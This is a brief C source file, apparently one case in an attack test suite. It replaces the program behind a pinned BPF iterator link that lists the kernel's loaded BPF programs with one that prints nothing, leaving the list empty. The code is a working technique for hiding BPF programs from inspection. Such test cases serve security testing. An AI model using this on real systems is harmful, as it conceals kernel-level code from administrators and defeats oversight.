// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * The kernel's list of programs is an iterator, and that is a link whose program can be exchanged: for one that prints nothing.
 * Success: the list is empty.
 */
#include "bpf.h"

static void run(void)
{
	struct program program = {
		.type = BPF_PROG_TYPE_TRACING,
		.attach_type = BPF_TRACE_ITER,
		.attach_to = kernel_function("bpf_iter_bpf_prog"),
	};
	int link = must("BPF_OBJ_GET", open_pin(OURS "/progs.debug", 0));
	union bpf_attr attr = {};

	attr.link_update.link_fd = link;
	attr.link_update.new_prog_fd = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, 0), RETURN));
	must("BPF_LINK_UPDATE", bpf(BPF_LINK_UPDATE, &attr, sizeof(attr)));
}

ATTACK("gives the list of programs another program", .run = run);
